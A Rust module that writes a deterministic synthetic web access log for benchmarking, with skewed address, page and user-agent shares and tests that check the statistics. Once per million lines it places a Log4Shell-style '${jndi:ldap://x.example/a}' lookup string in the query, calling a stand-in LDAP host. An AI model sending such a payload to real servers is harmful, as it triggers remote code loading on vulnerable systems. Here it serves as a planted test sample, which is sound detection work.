//! The log that is read in the comparison: a day of a busy site.
//!
//! Few ask often and most seldom, as in real logs. In a public one of 10,000 lines 1,753 addresses
//! are met, and the 10, 100 and 1,000 busiest of them make 20, 47 and 92 % of the lines; of the
//! 1,498 targets the same numbers make 42, 70 and 95 %; 558 user agents are met, of which ten make
//! 35 %. Of the addresses 1,673 have one user agent, and nine more than two. 2 % of the lines are
//! misses, and 8 % hold an ampersand or an escape.
//! The shares here are flatter, because what repeats is cheap for whoever remembers it: among as
//! many lines a tenth of the targets makes 45 % of them, not 75 %.

use std::fmt::Write as _;
use std::io::{self, Write};

use crate::corpus::hostile::Chance;

/// The same seed gives the same bytes.
const SEED: u64 = 0x7265_6c69_6768_7401;

/// How many addresses, pages and user agents there are, and how steeply their shares fall.
const ADDRESSES: (u64, u32) = (200_000, 3);
const PAGES: (u64, u32) = (20_000, 4);
const AGENTS: (u64, u32) = (600, 3);

/// Lines of one second of the site.
const LINES_A_SECOND: u64 = 65;

const PLATFORMS: [&str; 6] = [
    "(Windows NT 10.0; Win64; x64)",
    "(Macintosh; Intel Mac OS X 10_15_7)",
    "(X11; Linux x86_64)",
    "(iPhone; CPU iPhone OS 15_1 like Mac OS X)",
    "(Linux; Android 11; SM-A515F)",
    "(compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
];

/// What a log is like.
#[derive(Debug, Default)]
pub(super) struct Census {
    bytes: usize,
    lines: u64,
    /// Which of each were met.
    addresses: Met,
    pages: Met,
    agents: Met,
}

impl Census {
    /// In words.
    pub(super) fn text(&self) -> String {
        let Self { bytes, lines, addresses, pages, agents } = self;
        let (busiest, share) = (addresses.met() / 100, addresses.share(100, *lines));
        format!(
            "the log: {bytes} bytes, {lines} lines of one day in the order of their time, {} \
             addresses (the busiest {busiest} make {share} % of the lines), {} paths, {} user \
             agents",
            addresses.met(),
            pages.met(),
            agents.met(),
        )
    }
}

/// How often each of a number of things was met.
#[derive(Debug, Default)]
struct Met(Vec<u64>);

impl Met {
    fn add(&mut self, rank: u64) {
        let at = usize::try_from(rank).unwrap_or(0);
        if self.0.len() <= at {
            self.0.resize(at + 1, 0);
        }
        self.0[at] += 1;
    }

    fn met(&self) -> usize {
        self.0.iter().filter(|times| **times > 0).count()
    }

    /// Of how many in a hundred of so many one in `part` is the cause.
    fn share(&self, part: usize, of: u64) -> u64 {
        let mut times = self.0.clone();
        times.sort_unstable_by(|a, b| b.cmp(a));
        times.iter().take(self.met() / part).sum::<u64>() * 100 / of.max(1)
    }
}

/// Writes lines until there are that many bytes: ordinary visits, some misses, and a payload in a
/// million.
///
/// # Errors
/// The place cannot be written.
pub(super) fn write(out: &mut impl Write, bytes: usize) -> io::Result<Census> {
    let (mut random, mut census) = (Chance(SEED), Census::default());
    let mut line = String::new();
    while census.bytes < bytes {
        line.clear();
        append(&mut line, &mut census, &mut random);
        out.write_all(line.as_bytes())?;
        census.bytes += line.len();
        census.lines += 1;
    }
    Ok(census)
}

fn append(line: &mut String, census: &mut Census, random: &mut Chance) {
    let (address, page) = (rank(random, ADDRESSES), rank(random, PAGES));
    let (from, agent) = (rank(random, PAGES), agent_at(address, random));
    census.addresses.add(address);
    census.pages.add(page);
    census.agents.add(agent);
    let status = match random.below(100) {
        0..5 => 404,
        5..10 => 304,
        _ => 200,
    };
    let query = match random.below(12) {
        _ if census.lines % 1_000_000 == 999_999 => "${jndi:ldap://x.example/a}",
        0 => "p=1&lang=fr",
        _ => "p=1",
    };
    // Writing to a String cannot fail.
    let _ = writeln!(
        line,
        "{} - - [{} +0000] \"GET /articles/{}/page-{page}.html?{query} HTTP/1.1\" {status} {} \
         \"https://a.example/articles/{}/page-{from}.html\" \"{}\"",
        address_of(address),
        stamp(census.lines),
        page % 17,
        random.below(20_000),
        from % 17,
        agent_of(agent),
    );
}

/// Of twenty addresses one is that of two people.
fn agent_at(address: u64, random: &mut Chance) -> u64 {
    let is_other = address.is_multiple_of(20) && random.below(2) == 0;
    rank(&mut Chance(address << 1 | u64::from(is_other)), AGENTS)
}

/// Ranks are spread over the whole range of addresses.
fn address_of(rank: u64) -> String {
    let spread = rank.wrapping_mul(0x9e37_79b1) & 0x00ff_ffff;
    let [_, a, b, c] = u32::try_from(spread).unwrap_or(0).to_be_bytes();
    format!("10.{a}.{b}.{c}")
}

fn stamp(line: u64) -> String {
    let second = line / LINES_A_SECOND;
    let (hour, minute, second) = (second / 3_600 % 24, second / 60 % 60, second % 60);
    format!("10/Dec/2021:{hour:02}:{minute:02}:{second:02}")
}

fn agent_of(rank: u64) -> String {
    let (platform, version) = (PLATFORMS[usize::try_from(rank % 6).unwrap_or(0)], rank / 6);
    format!(
        "Mozilla/5.0 {platform} AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{version}.0.4664 \
         Safari/537.36"
    )
}

/// One of so many: the first of them most often.
fn rank(random: &mut Chance, (of, steepness): (u64, u32)) -> u64 {
    let share = random.next() >> 32;
    (0..steepness).fold(of, |rank, _| (rank * share) >> 32)
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeMap;

    use super::*;

    /// The share of the lines that the most frequent tenth of what stands in a column makes.
    fn share(lines: &[&str], column: usize) -> (usize, usize) {
        let mut counts: BTreeMap<&str, usize> = BTreeMap::new();
        for line in lines {
            *counts.entry(line.split('"').nth(column).unwrap()).or_default() += 1;
        }
        let mut counts: Vec<usize> = counts.into_values().collect();
        counts.sort_unstable_by(|a, b| b.cmp(a));
        let tenth: usize = counts.iter().take(counts.len() / 10).sum();
        (counts.len(), tenth * 100 / lines.len())
    }

    #[test]
    fn it_is_a_day_of_a_site_and_always_the_same() {
        let mut log = Vec::new();
        let census = write(&mut log, 4 << 20).unwrap();
        let mut again = Vec::new();
        write(&mut again, 4 << 20).unwrap();
        assert_eq!(log, again);
        let text = String::from_utf8(log).unwrap();
        let lines: Vec<&str> = text.lines().collect();
        let (targets, share_of_targets) = share(&lines, 1);
        let (agents, share_of_agents) = share(&lines, 5);
        assert!(targets > 4_000 && (40..50).contains(&share_of_targets), "{share_of_targets}");
        assert!(agents > 500 && (40..52).contains(&share_of_agents), "{share_of_agents}");
        let of = |text: &str| lines.iter().filter(|line| line.contains(text)).count();
        assert!((of("\" 404 ") * 100 / lines.len()).abs_diff(5) <= 1);
        assert!((of("&lang") * 100 / lines.len()).abs_diff(8) <= 1);
        let addresses: std::collections::BTreeSet<&str> =
            lines.iter().map(|line| line.split(' ').next().unwrap()).collect();
        let pairs: std::collections::BTreeSet<(&str, Option<&str>)> = lines
            .iter()
            .map(|line| (line.split(' ').next().unwrap(), line.split('"').nth(5)))
            .collect();
        let (pairs, once) = (pairs.len(), addresses.len());
        assert!(pairs > once && (pairs - once) * 10 < once, "{pairs} of {once} addresses");
        let said = census.text();
        assert!(said.contains(&format!(" {} lines", lines.len())), "{said}");
        assert!(said.contains(&format!(" {} addresses", addresses.len())), "{said}");
        let stamps: Vec<&str> =
            lines.iter().map(|line| &line[line.find('[').unwrap()..][..21]).collect();
        assert!(stamps.is_sorted(), "lines stand in the order of their time");
    }
}
